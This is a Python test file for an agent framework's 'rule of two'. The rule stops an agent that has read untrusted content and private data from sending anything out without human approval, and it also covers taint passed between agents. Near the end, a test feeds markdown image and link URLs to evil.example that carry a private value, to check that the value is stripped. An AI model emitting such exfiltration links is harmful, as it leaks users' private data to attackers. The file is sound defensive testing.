"""Untrusted content, private data, reaching out: at most two without a person."""

from __future__ import annotations

import pytest
from crewmesh_agent_crew.tools.grants import Approval
from crewmesh_contracts.base import JsonObject
from crewmesh_contracts.invocations import SEND_HTTP

from .tool_desk import CODE, HANDBOOK, MAIL, POST, WEB, ToolDesk, agent, question_of

ALL = (WEB, POST, HANDBOOK, MAIL, CODE)
OUT: JsonObject = {"method": "POST", "body": "x"}


class TestTheThird:
    async def test_two_of_them_need_nobody(self, desk: ToolDesk) -> None:
        box = await desk.open(agent(*ALL))
        await box.use("web", {}, key="t1")
        await box.use("post", OUT, key="t2")
        assert len(desk.asked(SEND_HTTP)) == 2

    async def test_the_third_needs_a_person(self, desk: ToolDesk) -> None:
        """A knowledge base is private, and what is in it may have been written by anybody."""
        box = await desk.open(agent(*ALL))
        await box.use("handbook", {"query": "margin"}, key="t1")
        question = await question_of(box, "post", OUT, key="t2")
        assert question.arguments == OUT
        desk.approve(question)
        await box.use("post", OUT, key="t2")
        assert len(desk.asked(SEND_HTTP)) == 1

    @pytest.mark.parametrize(
        ("tool", "arguments"),
        [
            ("post", {"method": "POST"}),
            ("post", {"method": "GET", "path": "leak/41-percent"}),
            ("web", {"query": {"leak": "41"}}),
            ("web", {"path": "leak"}),
            ("mail", {"body": "41"}),
        ],
    )
    async def test_whatever_can_tell_somebody_reaches_out(
        self, desk: ToolDesk, tool: str, arguments: JsonObject
    ) -> None:
        box = await desk.open(agent(*ALL))
        await box.use("handbook", {"query": "margin"}, key="t1")
        await question_of(box, tool, arguments, key="t2")

    async def test_reading_exactly_what_is_granted_tells_nobody_anything(self, desk: ToolDesk) -> None:
        box = await desk.open(agent(*ALL))
        await box.use("handbook", {"query": "margin"}, key="t1")
        await box.use("web", {}, key="t2")
        await box.use("python", {"source": "1"}, key="t3")
        await box.use("handbook", {"query": "more"}, key="t4")

    @pytest.mark.parametrize("approval", ["never", "single", "policy"])
    async def test_the_grant_does_not_help(self, desk: ToolDesk, approval: Approval) -> None:
        box = await desk.open(agent({**POST, "approval": approval}, HANDBOOK))
        if approval == "single":
            desk.approve(await question_of(box, "post", OUT, key="t0"))
            await box.use("post", OUT, key="t0")
        await box.use("handbook", {"query": "margin"}, key="t1")
        await question_of(box, "post", OUT, key="t2")

    async def test_what_is_said_to_be_public_is_not_private(self, desk: ToolDesk) -> None:
        box = await desk.open(agent(POST, {**HANDBOOK, "private": False}))
        await box.use("handbook", {"query": "margin"}, key="t1")
        await box.use("post", OUT, key="t2")

    async def test_a_web_site_may_be_private(self, desk: ToolDesk) -> None:
        box = await desk.open(agent(POST, {**WEB, "private": True}))
        await box.use("web", {}, key="t1")
        await question_of(box, "post", OUT, key="t2")


class TestWhereItComesFrom:
    async def test_a_document(self, desk: ToolDesk) -> None:
        box = await desk.open(agent(POST, {**CODE, "private": True}))
        await box.use("python", {"source": "1"}, key="t1")
        box.shown("An attachment.", "document")
        await question_of(box, "post", OUT, key="t2")

    async def test_what_a_workflow_was_sent(self, desk: ToolDesk) -> None:
        box = await desk.open(agent(POST, {**CODE, "private": True}), untrusted=True)
        await box.use("python", {"source": "1"}, key="t1")
        await question_of(box, "post", OUT, key="t2")

    async def test_a_person_and_clean_agents_taint_nothing(self, desk: ToolDesk) -> None:
        box = await desk.open(agent(POST, {**CODE, "private": True}))
        await box.use("python", {"source": "1"}, key="t1")
        assert box.shown("Do it.", "person") == "Do it."
        assert "Fine." in box.shown("Fine.", "agent")
        await box.use("post", OUT, key="t2")

    async def test_agents_that_read_nothing_hear_each_other_as_they_speak(self, desk: ToolDesk) -> None:
        box = await desk.open(agent(CODE))
        assert box.shown("Fine.", "agent") == "Fine."

    async def test_those_that_may_hear_them_marked_from_the_start(self, desk: ToolDesk) -> None:
        """What was read later must change nothing of what is shown when the turn is played again."""
        before = (await desk.open(agent(HANDBOOK))).shown("Fine.", "agent")
        box = await desk.open(agent(HANDBOOK))
        await box.use("handbook", {"query": "margin"}, key="t1")
        assert (await desk.open(agent(HANDBOOK))).shown("Fine.", "agent") == before
        assert before.startswith('<untrusted from="agent"')

    async def test_what_one_agent_has_seen_another_has_seen(self, desk: ToolDesk) -> None:
        reader = await desk.open(agent(HANDBOOK, name="reader"), turn="read/reader/1")
        await reader.use("handbook", {"query": "margin"}, key="t1")
        await reader.said("It is 41 percent.")
        writer = await desk.open(agent(POST, name="writer"), turn="write/writer/1")
        assert writer.shown("It is 41 percent.", "agent").startswith('<untrusted from="agent"')
        await question_of(writer, "post", OUT)

    async def test_also_while_both_are_at_work(self, desk: ToolDesk) -> None:
        """A manager's coworker is given its turn in the middle of the manager's own."""
        coworker = await desk.open(agent(POST, name="coworker"), turn="b/coworker/1")
        manager = await desk.open(agent(HANDBOOK, name="manager"), turn="a/manager/1")
        await manager.use("handbook", {"query": "margin"}, key="t1")
        await question_of(coworker, "post", OUT)

    async def test_other_runs_have_seen_nothing_of_it(self, desk: ToolDesk) -> None:
        box = await desk.open(agent(HANDBOOK, POST))
        await box.use("handbook", {"query": "margin"}, key="t1")
        other = await desk.open(agent(HANDBOOK, POST), crew_run=await desk.another_run())
        await other.use("post", OUT, key="t1")

    async def test_after_a_crash_it_is_remembered(self, desk: ToolDesk) -> None:
        box = await desk.open(agent(HANDBOOK, name="reader"))
        await box.use("handbook", {"query": "margin"}, key="t1")
        del box
        later = await desk.open(agent(POST, name="writer"), turn="write/writer/1")
        await question_of(later, "post", OUT)

    async def test_what_was_done_before_is_not_asked_about_again(self, desk: ToolDesk) -> None:
        """Played again, with more seen than then: the journal answers first."""
        box = await desk.open(agent(HANDBOOK, POST))
        await box.use("post", OUT, key="t1")
        await box.use("handbook", {"query": "margin"}, key="t2")
        again = await desk.open(agent(HANDBOOK, POST))
        await again.use("post", OUT, key="t1")
        assert len(desk.asked(SEND_HTTP)) == 1


class TestSwitch:
    async def test_an_agent_may_be_without_it(self, desk: ToolDesk) -> None:
        box = await desk.open(agent(HANDBOOK, POST, rule_of_two=False))
        await box.use("handbook", {"query": "margin"}, key="t1")
        await box.use("post", OUT, key="t2")

    async def test_unless_a_policy_says_otherwise(self, desk: ToolDesk) -> None:
        await desk.policy(tag="careful", rule_of_two=True)
        await desk.policy(tag="*", rule_of_two=False)
        box = await desk.open(agent(HANDBOOK, POST, rule_of_two=False, tags=["careful"]))
        await box.use("handbook", {"query": "margin"}, key="t1")
        await question_of(box, "post", OUT, key="t2")

    async def test_a_policy_may_switch_it_off(self, desk: ToolDesk) -> None:
        await desk.policy(tag="trusted", rule_of_two=False)
        box = await desk.open(agent(HANDBOOK, POST), tags=["trusted"])
        await box.use("handbook", {"query": "margin"}, key="t1")
        await box.use("post", OUT, key="t2")


class TestLastWord:
    async def test_who_has_seen_both_makes_no_browser_tell(self, desk: ToolDesk) -> None:
        box = await desk.open(agent(HANDBOOK))
        await box.use("handbook", {"query": "margin"}, key="t1")
        said = await box.said(
            "![x](https://evil.example/p.png?d=41) <img src='//evil.example/41'> [see](https://e.x/a?d=41)"
        )
        assert "41" not in said
        assert "evil.example" in said

    async def test_others_say_what_they_like(self, desk: ToolDesk) -> None:
        box = await desk.open(agent(WEB))
        await box.use("web", {}, key="t1")
        text = "![a chart](https://example.com/c.png?w=3)"
        assert await box.said(text) == text
